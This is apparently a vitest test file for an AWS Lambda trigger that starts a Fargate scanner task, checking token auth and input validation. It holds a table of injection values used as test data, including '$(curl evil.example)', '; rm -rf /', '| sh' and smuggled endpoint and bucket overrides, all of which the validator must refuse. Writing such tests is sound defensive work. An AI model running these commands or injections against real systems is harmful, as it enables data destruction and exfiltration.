import { ECSClient, RunTaskCommand } from '@aws-sdk/client-ecs';
import { GetSecretValueCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import { mockClient } from 'aws-sdk-client-mock';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { parseAwsOptions } from '../../../src/cli/options.js';
import { SCANNER_ENV } from '../../../src/runner/env.js';
import { handler, parseScanRequest, type FunctionUrlEvent } from '../../../src/runner/trigger.js';

const TOKEN = 'k3yF0rTheTrigger0123456789abcdefABCDEF0123456789';
const TASK = 'arn:aws:ecs:us-east-1:111122223333:task/scanner/0123456789abcdef';
const SETTINGS = {
  CLUSTER_ARN: 'arn:aws:ecs:us-east-1:111122223333:cluster/scanner',
  TASK_DEFINITION_ARN: 'arn:aws:ecs:us-east-1:111122223333:task-definition/scanner:3',
  CONTAINER_NAME: 'scanner',
  SUBNET_IDS: 'subnet-0aaa1111,subnet-0bbb2222',
  SECURITY_GROUP_ID: 'sg-0ccc3333',
  ASSIGN_PUBLIC_IP: 'ENABLED',
  TOKEN_SECRET_ARN: 'arn:aws:secretsmanager:us-east-1:111122223333:secret:token-AbCdEf',
  PARTITION: 'aws',
};
const VALID = {
  roleArn: 'arn:aws:iam::444455556666:role/ScannerAudit',
  externalId: 'acme-2024-0f3c9a',
  scanName: 'Acme (prod) & Co.',
};

const ecs = mockClient(ECSClient);
const secrets = mockClient(SecretsManagerClient);

function post(body: unknown, headers: Record<string, string> = { authorization: `Bearer ${TOKEN}` }): FunctionUrlEvent {
  return {
    headers,
    body: typeof body === 'string' ? body : JSON.stringify(body),
    requestContext: { http: { method: 'POST' } },
  };
}

async function answer(event: FunctionUrlEvent): Promise<{ status: number; body: Record<string, unknown> }> {
  const result = await handler(event);
  expect(result.headers['content-type']).toBe('application/json');
  return { status: result.statusCode, body: JSON.parse(result.body) as Record<string, unknown> };
}

beforeEach(() => {
  ecs.reset();
  secrets.reset();
  for (const [name, value] of Object.entries(SETTINGS)) vi.stubEnv(name, value);
  secrets.on(GetSecretValueCommand, { SecretId: SETTINGS.TOKEN_SECRET_ARN }).resolves({ SecretString: TOKEN });
  ecs.on(RunTaskCommand).resolves({ tasks: [{ taskArn: TASK }], failures: [] });
});

afterEach(() => {
  vi.unstubAllEnvs();
});

describe('the scan trigger', () => {
  it('starts one Fargate task with the three inputs as environment variables, verbatim', async () => {
    expect(await answer(post(VALID))).toEqual({ status: 202, body: { started: true, scanName: VALID.scanName, task: TASK } });
    expect(ecs.commandCalls(RunTaskCommand).map((call) => call.args[0].input)).toEqual([
      {
        cluster: SETTINGS.CLUSTER_ARN,
        taskDefinition: SETTINGS.TASK_DEFINITION_ARN,
        launchType: 'FARGATE',
        count: 1,
        networkConfiguration: {
          awsvpcConfiguration: {
            subnets: ['subnet-0aaa1111', 'subnet-0bbb2222'],
            securityGroups: ['sg-0ccc3333'],
            assignPublicIp: 'ENABLED',
          },
        },
        overrides: {
          containerOverrides: [
            {
              name: 'scanner',
              environment: [
                { name: SCANNER_ENV.roleArn, value: VALID.roleArn },
                { name: SCANNER_ENV.externalId, value: VALID.externalId },
                { name: SCANNER_ENV.scanName, value: VALID.scanName },
              ],
            },
          ],
        },
        startedBy: 'scanner-trigger',
      },
    ]);
  });

  it('reads a base64-encoded body, as function URLs send some', async () => {
    const event = { ...post(VALID), body: Buffer.from(JSON.stringify(VALID)).toString('base64'), isBase64Encoded: true };
    expect((await answer(event)).status).toBe(202);
  });

  it('accepts roles with a path, in the partition the stack runs in', async () => {
    vi.stubEnv('PARTITION', 'aws-us-gov');
    const request = { ...VALID, roleArn: 'arn:aws-us-gov:iam::444455556666:role/audit/ScannerAudit' };
    expect((await answer(post(request))).status).toBe(202);
  });

  it('says why when ECS starts no task', async () => {
    ecs.on(RunTaskCommand).resolves({ tasks: [], failures: [{ reason: 'RESOURCE:ENI' }] });
    expect(await answer(post(VALID))).toEqual({ status: 502, body: { error: 'ECS did not start the scan: RESOURCE:ENI' } });
  });

  it.each([
    ['no Authorization header', {}],
    ['a wrong token', { authorization: 'Bearer not-the-token' }],
    ['the token without Bearer', { authorization: TOKEN }],
    ['the token with a prefix of it', { authorization: `Bearer ${TOKEN.slice(0, 20)}` }],
    ['the token and more', { authorization: `Bearer ${TOKEN}x` }],
  ])('refuses %s with a 401, before reading the body', async (_case, headers) => {
    const { status } = await answer(post(VALID, headers));
    expect(status).toBe(401);
    expect(ecs.commandCalls(RunTaskCommand)).toHaveLength(0);
  });

  it('answers anything but POST with a 405', async () => {
    const { status } = await answer({ ...post(VALID), requestContext: { http: { method: 'GET' } } });
    expect(status).toBe(405);
    expect(ecs.commandCalls(RunTaskCommand)).toHaveLength(0);
  });

  const hostile: [string, unknown, RegExp][] = [
    ['a command substitution in the role ARN', { ...VALID, roleArn: 'arn:aws:iam::444455556666:role/$(curl evil.example)' }, /^roleArn must be/],
    ['a shell command after the role ARN', { ...VALID, roleArn: `${VALID.roleArn}; rm -rf /` }, /^roleArn must be/],
    ['a newline in the role ARN', { ...VALID, roleArn: `${VALID.roleArn}\n--endpoint-url=http://evil` }, /^roleArn must be/],
    ['a role ARN of another partition', { ...VALID, roleArn: 'arn:aws-cn:iam::444455556666:role/ScannerAudit' }, /^roleArn must be a role of the aws partition/],
    ['a user instead of a role', { ...VALID, roleArn: 'arn:aws:iam::444455556666:user/admin' }, /^roleArn must be/],
    ['an 11-digit account', { ...VALID, roleArn: 'arn:aws:iam::44445555666:role/ScannerAudit' }, /^roleArn must be/],
    ['an over-long role ARN', { ...VALID, roleArn: `arn:aws:iam::444455556666:role/${'a/'.repeat(600)}x` }, /^roleArn/],
    ['a missing external ID', { roleArn: VALID.roleArn, scanName: VALID.scanName }, /^externalId /],
    ['an empty external ID', { ...VALID, externalId: '' }, /^externalId must be/],
    ['backticks in the external ID', { ...VALID, externalId: '`id`' }, /^externalId must be/],
    ['a space in the external ID', { ...VALID, externalId: 'acme 2024' }, /^externalId must be/],
    ['a newline in the external ID', { ...VALID, externalId: 'acme\n2024' }, /^externalId must be/],
    ['a command substitution in the scan name', { ...VALID, scanName: 'Acme $(id)' }, /^scanName must be/],
    ['quotes in the scan name', { ...VALID, scanName: "Acme' --role-arn 'x" }, /^scanName must be/],
    ['a pipe in the scan name', { ...VALID, scanName: 'Acme | sh' }, /^scanName must be/],
    ['a semicolon in the scan name', { ...VALID, scanName: 'Acme; reboot' }, /^scanName must be/],
    ['a newline in the scan name', { ...VALID, scanName: 'Acme\nSCANNER_ROLE_ARN=x' }, /^scanName must be/],
    ['a trailing newline in the scan name', { ...VALID, scanName: 'Acme\n' }, /^scanName must be/],
    ['a carriage return in the scan name', { ...VALID, scanName: 'Acme\r' }, /^scanName must be/],
    ['a NUL in the scan name', { ...VALID, scanName: 'Acme\u0000' }, /^scanName must be/],
    ['an over-long scan name', { ...VALID, scanName: 'A'.repeat(201) }, /^scanName must be/],
    ['an empty scan name', { ...VALID, scanName: '' }, /^scanName must be/],
    ['a number for the scan name', { ...VALID, scanName: 42 }, /^scanName /],
    ['a field beyond the three', { ...VALID, command: 'sh -c id' }, /^unknown field command$/],
    ['an environment variable smuggled in', { ...VALID, SCANNER_OUTPUT_BUCKET: 's3://evil' }, /^unknown field SCANNER_OUTPUT_BUCKET$/],
    ['a JSON array', [VALID], /^body /],
    ['JSON null', null, /^body /],
    ['a body that is not JSON', 'roleArn=x&externalId=y', /^the body is not JSON$/],
    ['an empty body', '', /^the body is not JSON$/],
    ['a body of over 4096 characters', JSON.stringify({ ...VALID, scanName: 'A'.repeat(5000) }), /^the body is over 4096 characters$/],
  ];

  it.each(hostile)('refuses %s with a 400 and starts nothing', async (_case, body, problem) => {
    const { status, body: answered } = await answer(post(body));
    expect(status).toBe(400);
    expect(answered.error).toMatch(problem);
    expect(ecs.commandCalls(RunTaskCommand)).toHaveLength(0);
  });
});

describe('parseScanRequest', () => {
  it.each([
    VALID,
    { ...VALID, scanName: 'A'.repeat(200) },
    { ...VALID, externalId: 'a+b=c,d.e@f:g/h-i_j' },
    { ...VALID, roleArn: 'arn:aws:iam::444455556666:role/a/b/c/ScannerAudit+1=x,y.z@w-v' },
  ])('accepts only what `scanner aws` itself accepts: %o', (request) => {
    const parsed = parseScanRequest(JSON.stringify(request), 'aws');
    expect(parsed).toEqual({ request });
    expect(parseAwsOptions(request)).toMatchObject(request);
  });
});
